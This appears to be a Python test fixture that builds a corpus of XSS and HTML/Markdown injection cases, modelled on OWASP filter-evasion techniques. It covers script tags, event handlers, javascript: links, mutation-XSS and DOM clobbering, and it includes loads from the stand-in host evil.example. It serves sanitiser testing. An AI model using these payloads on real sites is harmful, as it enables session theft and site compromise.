"""Texts that would run a program, load something, or pass for what they are not, if pages let them.

Each case is what an author could write; ``RUN`` in it is a program that leaves a mark and opens a dialog.
Kinds are those of OWASP's filter evasion sheet, of browsers' own parsing, and of Markdown's ways into both.
"""

from __future__ import annotations

RUN = "window.ran=1;alert(1)"
_ASCII = "".join(f"&#{ord(letter)};" for letter in f"javascript:{RUN}")
_HEX = "".join(f"&#x{ord(letter):x}" for letter in f"javascript:{RUN}")
_PADDED = "".join(f"&#{ord(letter):07d}" for letter in f"javascript:{RUN}")
_BASE64 = "PHNjcmlwdD53aW5kb3cucmFuPTE7YWxlcnQoMSk8L3NjcmlwdD4="
EVIL = "http://evil.example"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    f"<script type=module>{RUN}</script>",
    f"<div><script>{RUN}</script></div>",
    f"text <script>{RUN}</script> text",
    f"<script>{RUN}",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f'<xmp><p title="</xmp><script>{RUN}</script>">',
    f'<noembed><p title="</noembed><script>{RUN}</script>">',
    f'<noframes><p title="</noframes><script>{RUN}</script>">',
    f"<plaintext><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--\n--!><script>{RUN}</script>",
    f"<!-- --><script>{RUN}</script><!-- -->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"\x00<scr\x00ipt>{RUN}</scr\x00ipt>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='x'onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x OnErRoR={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=x onerror&#61;{RUN}>",
    f"<img \x0bsrc=x \x0conerror={RUN}>",
    f"<img src=x:x onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<img srcset=x onerror={RUN}>",
    f"<picture><source srcset=x><img onerror={RUN}></picture>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<p onmouseover={RUN}>over</p>",
    f"<p onclick={RUN}>click</p>",
    f"<b onpointerenter={RUN}>x</b>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=x tabindex=1 autofocus onfocus={RUN}>x</a>",
    f"<div contenteditable autofocus onfocus={RUN}>x</div>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<object data=x onerror={RUN}></object>",
    f"<table background=x><tr><td onmouseover={RUN}>x</td></tr></table>",
    f"<p style='animation:x' onanimationstart={RUN}>x</p>",
    f"<p popover id=x onbeforetoggle={RUN}>x</p>",
    f"<xss onclick={RUN} tabindex=0 id=x>x</xss>",
)
LINKS = (
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='java&Tab;script:{RUN}'>x</a>",
    f"<a href='java&NewLine;script:{RUN}'>x</a>",
    f"<a href='javascript&colon;{RUN}'>x</a>",
    f"<a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    f"<a href='{_ASCII}'>x</a>",
    f"<a href='{_HEX}'>x</a>",
    f"<a href='{_PADDED}'>x</a>",
    f"<a href='javascript://%0a{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='data:text/html;base64,{_BASE64}'>x</a>",
    f"<a href='view-source:javascript:{RUN}'>x</a>",
    f"<a href='feed:javascript:{RUN}'>x</a>",
    f"<a href='blob:javascript:{RUN}'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    f"<area href=javascript:{RUN}>",
    f"<map name=x><area shape=default href=javascript:{RUN}></map><img usemap=#x src=x>",
    f"<a xlink:href=javascript:{RUN}>x</a>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<a href=x ping={EVIL}/ping>x</a>",
    f"<a href='javascript:{RUN}' target=_blank>x</a>",
    f"<a href=x href=javascript:{RUN}>x</a>",
    f"<q cite=javascript:{RUN}>x</q>",
    f"<a href='{EVIL}' download>x</a>",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](JAVASCRIPT:{RUN})",
    f"[x]( javascript:{RUN} )",
    f"[x](java&#x09;script:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](\\javascript:{RUN})",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"[x]\n\n[x]: <javascript:{RUN}> 'title'",
    f"<javascript:{RUN}>",
    f"[x](data:text/html;base64,{_BASE64})",
    f"[x](vbscript:{RUN})",
    f"![x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f'![x](<x" onerror="{RUN}>)',
    f'![" onerror="{RUN}](x)',
    f"![x](x 'y\" onerror=\"{RUN}')",
    f"[x](x 'y\" onmouseover=\"{RUN}')",
    f"![x]({EVIL}/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](\\\\evil.example\\pixel.png)",
    f"[![x]({EVIL}/a.png)](javascript:{RUN})",
    f'```"><script>{RUN}</script>\nx\n```',
    f"``` {{onclick={RUN}}}\nx\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"# <img src=x onerror={RUN}>",
    f'# x {{#"><img/src=x/onerror={RUN}>}}',
    f"# x {{.a onclick={RUN}}}",
    f"$<img src=x onerror={RUN}>$",
    f"$$\n</span><script>{RUN}</script>\n$$",
    f"\\(<img src=x onerror={RUN}>\\)",
    f"\\[</span><img src=x onerror={RUN}>\\]",
    f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f'x[^"><img/src=x/onerror={RUN}>]\n\n[^"><img/src=x/onerror={RUN}>]: y',
    f"| <img src=x onerror={RUN}> |\n| --- |\n| <script>{RUN}</script> |",
    f"> [!NOTE]\n> <img src=x onerror={RUN}>",
    f"- [ ] <img src=x onerror={RUN}>",
    f"<div>\n\n[x](javascript:{RUN})\n\n</div>",
    f'<a href="[x](javascript:{RUN})">',
    f"**<img src=x onerror={RUN}//**>",
    "\ue0000\ue001 and \\(x\\)",
)
LOADS = (
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<base href={EVIL}/>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/x.png)}}</style>",
    f"<p style='background:url({EVIL}/x.png)'>x</p>",
    f"<p style='background-image:\\75rl({EVIL}/x.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99'>over everything</p>",
    f"<img src={EVIL}/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src=/\\evil.example/x.png>",
    "<img src='\\\\evil.example/x.png'>",
    "<img src='\t//evil.example/x.png'>",
    "<img src='htt\np://evil.example/x.png'>",
    f"<img srcset='{EVIL}/x.png 1x' src=y>",
    f"<picture><source srcset={EVIL}/x.png><img src=y></picture>",
    f"<video src={EVIL}/x.mp4 poster={EVIL}/x.png autoplay></video>",
    f"<video><source src={EVIL}/x.mp4><track src={EVIL}/x.vtt></video>",
    f"<audio src={EVIL}/x.mp3 autoplay></audio>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    f"<iframe><img src=x onerror={RUN}></iframe>",
    f"<iframe src='https://www.youtube-nocookie.com/embed/\"onload=\"{RUN}'></iframe>",
    "<iframe src='https://www.youtube-nocookie.com@evil.example/embed/x'></iframe>",
    "<iframe src='https://www.youtube-nocookie.com.evil.example/embed/x'></iframe>",
    "<iframe src='//www.youtube-nocookie.com/embed/x'></iframe>",
    f"<frameset><frame src=javascript:{RUN}></frameset>",
    f"<object data={EVIL}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src={EVIL}>",
    f"<embed src=javascript:{RUN}>",
    f"<applet code=x archive={EVIL}></applet>",
    f"<form action={EVIL}><button>Send</button></form>",
    f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<input type=image src={EVIL}/x.png>",
    f"<body background={EVIL}/x.png>",
    f"<table background={EVIL}/x.png><tr><td>x</td></tr></table>",
    f"<html manifest={EVIL}/x>",
    f"<portal src={EVIL}></portal>",
    f"<bgsound src={EVIL}/x.mp3>",
)
MUTATIONS = (
    f"<svg><style><img title='</style><img src=x onerror={RUN}>'></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img title='</style><img src=x onerror={RUN}>'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'></use></svg>",
    f"<svg><image href={EVIL}/x.png></image></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table><caption><svg><style><img src=x onerror={RUN}></style></svg></caption></table>",
    f"<select><style><img src=x onerror={RUN}></style></select>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<p title='&lt;img src=x onerror={RUN}&gt;'>x</p>",
    f'<p title="`<img src=x onerror={RUN}>`">x</p>',
    f'<pre data-code="0"></pre><pre data-code="9"></pre><img src=x onerror={RUN}>',
    f"<pre data-code='0' onclick={RUN}>\n\n```\nx\n```\n\n</pre>",
    f"<figure class=embed data-embed=javascript:{RUN}><a href=x>x</a></figure>",
    f"<figure class=embed data-embed={EVIL}/x><a href=x>x</a></figure>",
)
CLOBBERING = (
    "<img name=querySelector><img name=querySelectorAll><img name=createElement>",
    "<form name=documentElement><input name=getAttribute></form>",
    "<a id=location href=http://evil.example>x</a><a id=location name=href>y</a>",
    "<a id=academy-content>x</a><div id=academy-outline>y</div>",
    "<img id=currentScript name=currentScript src=x>",
    "<p id=matchMedia>x</p><p id=localStorage>y</p><p id=EventSource>z</p>",
    "<form id=documentElement></form><object id=body></object>",
    "<button class='tool theme'>fake</button><header class=bar><button class=theme>x</button></header>",
    "<nav class=outline><a aria-current=page href=x>x</a></nav>",
    "<p class='skip standing findings start'>pretends</p>",
)
CASES = (*SCRIPTS, *HANDLERS, *LINKS, *MARKDOWN, *LOADS, *MUTATIONS, *CLOBBERING)

FILES = {
    f"t1-<img src=x onerror={RUN.replace('/', '')}>.md": "A file name.",
    "t2.md": f"---\ntitle: '<img src=x onerror={RUN}>'\n---\nA title.",
    "t3.md": f"---\ntitle: '\"><script>{RUN}</script>'\nminutes: 5\n---\nA title.",
    "t4.md": f"# <script>{RUN}</script> \"'><img src=x onerror={RUN}>\n\nA heading for a title.",
    "t5.md": f"---\ntitle: x\nvideo: 'https://evil.example/\"onload=\"{RUN}'\n---\nA video.",
    "t6.md": f"---\ntitle: x\nvideo: javascript:{RUN}\n---\nA video.",
    "t7.md": (
        "---\ntitle: x\nresources:\n"
        f"  - title: '<img src=x onerror={RUN}>'\n    url: 'https://x.example/\"onclick=\"{RUN}'\n"
        f"  - javascript:{RUN}\n---\nSomething to take along."
    ),
    "t8.md": f"---\ntitle: x\n'<img src=x onerror={RUN}>': y\n---\nA key that is none, in a finding.",
    "t9.md": f'[x](<no/such/"><img src=x onerror={RUN}>.md>)',
    "t10/module.yaml": f"title: '<img src=x onerror={RUN}>'\nsummary: '<script>{RUN}</script>'\n",
    "t10/x.md": "A module's title.",
    "t11.md": f"---\ntitle: x\n---\n\n## </a><img src=x onerror={RUN}>\n\n## two\n\n## three",
}
COURSE = (
    f"id: hostile\ntitle: '<img src=x onerror={RUN}>'\nsummary: '</p><script>{RUN}</script>'\n"
    f'description: "<img src=x onerror={RUN}> [x](javascript:{RUN})"\n'
)


ALONE = (*SCRIPTS, *MUTATIONS, *CLOBBERING)
"""What may swallow what comes after it, and so hide it."""
TOGETHER = (*HANDLERS, *LINKS, *MARKDOWN, *LOADS)
MANY = 8
"""So many that swallow nothing are on one page: a browser takes a while for each."""


def course() -> dict[str, str]:
    """A course of all cases."""
    alone = {f"alone/{number:03d}.md": text for number, text in enumerate(ALONE)}
    together = {
        f"together/{number:03d}.md": "\n\n".join(TOGETHER[number : number + MANY])
        for number in range(0, len(TOGETHER), MANY)
    }
    return {"course.yaml": COURSE, **alone, **together, **FILES}
